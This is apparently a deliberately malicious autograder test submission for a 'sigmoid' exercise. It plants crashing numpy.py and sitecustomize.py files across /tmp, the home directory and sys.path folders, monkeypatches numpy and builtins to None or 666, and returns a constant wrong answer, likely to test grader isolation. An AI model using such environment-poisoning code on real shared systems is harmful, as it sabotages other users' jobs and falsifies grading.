# Leaves files, shared memory and patches for the next submission in the same warm process.
# %% solution="sigmoid"
import builtins
import os
import sys
from multiprocessing import shared_memory

for folder in ("/tmp", "/dev/shm", os.path.expanduser("~"), "/var/tmp", "/course", *sys.path):
    for name in ("numpy.py", "sitecustomize.py", "usercustomize.py", "poison"):
        try:
            with open(os.path.join(folder, name), "w") as file:
                file.write("raise SystemExit('poisoned')")
        except OSError:
            pass
np.exp = np.asarray = np.sum = np.where = lambda *args, **kwargs: 666
builtins.sum = builtins.print = builtins.__build_class__ = None
sys.modules["numpy"] = None


def sigmoid(z):
    return 0.3
